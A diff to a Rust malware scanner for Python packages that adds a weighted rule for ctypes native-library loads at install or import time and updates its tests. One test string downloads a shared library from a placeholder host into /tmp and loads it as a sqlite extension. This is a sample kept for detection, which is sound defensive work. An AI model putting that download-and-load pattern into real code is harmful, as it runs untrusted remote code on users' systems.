@@ -667,6 +667,7 @@ fn check_loads_saved_file(checker: &mut Checker, call: &ExprCall, qualname: &str
     let (saved, text) = if let Some(path) = loaded_path(call, qualname) {
         let text = super::partial_text(checker, path).unwrap_or_default();
         let Some(saved) = checker.saved_file_in(&text, Some(path)).cloned() else {
+            note_native_load(checker, call, qualname, &text);
             return;
         };
         (saved, text)
@@ -703,6 +704,45 @@ fn check_loads_saved_file(checker: &mut Checker, call: &ExprCall, qualname: &str
         severity,
         vec!["exec", "runs-saved-file"],
     );
+}
+
+/// `ctypes.CDLL(os.path.join(here, 'terminate.dll'))` while the package installs or loads:
+/// a library of the package's own, started inside the interpreter. Alone it is what many
+/// bindings do (a hint); the package score counts it in full when the library is a compiled
+/// program shipped in the sdist (`combo:runs-shipped-binary`), the termncolor/colorinal shape.
+fn note_native_load(checker: &mut Checker, call: &ExprCall, qualname: &str, path: &str) {
+    if !is_native_loader(qualname) {
+        return;
+    }
+    let severity = match checker.context() {
+        ExecContext::Install => NATIVE_LOAD_INSTALL_WEIGHT,
+        ExecContext::Import => NATIVE_LOAD_IMPORT_WEIGHT,
+        ExecContext::Runtime | ExecContext::TestOrDocs => return,
+    };
+    let Some(file) = path
+        .rsplit(['/', '\\'])
+        .next()
+        .filter(|file| file.contains('.') && file.chars().count() >= 4)
+    else {
+        return;
+    };
+    checker.report(
+        &RULE,
+        call.range(),
+        format!("{qualname} loads the native library `{file}` into the interpreter"),
+        severity,
+        vec!["native-load"],
+    );
+}
+
+/// Weight of a package-relative native library loaded while installing.
+pub const NATIVE_LOAD_INSTALL_WEIGHT: f64 = 0.15;
+/// Weight of one loaded while the package is imported.
+pub const NATIVE_LOAD_IMPORT_WEIGHT: f64 = 0.1;
+
+/// True for the ctypes loaders of [`loaded_path`].
+fn is_native_loader(qualname: &str) -> bool {
+    qualname.starts_with("ctypes.")
 }
 
 /// `/name` for `importlib.import_module('name')` or `__import__('name')` of a constant module
@@ -1159,7 +1199,14 @@ mod tests {
         assert!(max_severity("p/pkg/__init__.py", code, "WH110") >= 0.8);
         let shipped =
             "import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), 'lib.so'))\n";
-        assert_eq!(max_severity("p/pkg/__init__.py", shipped, "WH110"), 0.0);
+        // A library of the package's own, loaded on import, is a hint (scoring counts it in
+        // full beside a compiled program in the sdist); loaded when called, nothing.
+        assert_eq!(
+            max_severity("p/pkg/__init__.py", shipped, "WH110"),
+            super::NATIVE_LOAD_IMPORT_WEIGHT
+        );
+        let on_demand = "import ctypes, os\ndef load():\n    return ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'lib.so'))\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", on_demand, "WH110"), 0.0);
         let sqlite = "import sqlite3, urllib.request\np = '/tmp/.x.so'\nurllib.request.urlretrieve('https://x.invalid/x.so', p)\ncon = sqlite3.connect(':memory:')\ncon.enable_load_extension(True)\ncon.load_extension(p)\n";
         assert!(max_severity("p/pkg/__init__.py", sqlite, "WH110") >= 0.8);
         let spatialite = "import sqlite3\ncon = sqlite3.connect('g.db')\ncon.enable_load_extension(True)\ncon.load_extension('mod_spatialite')\n";
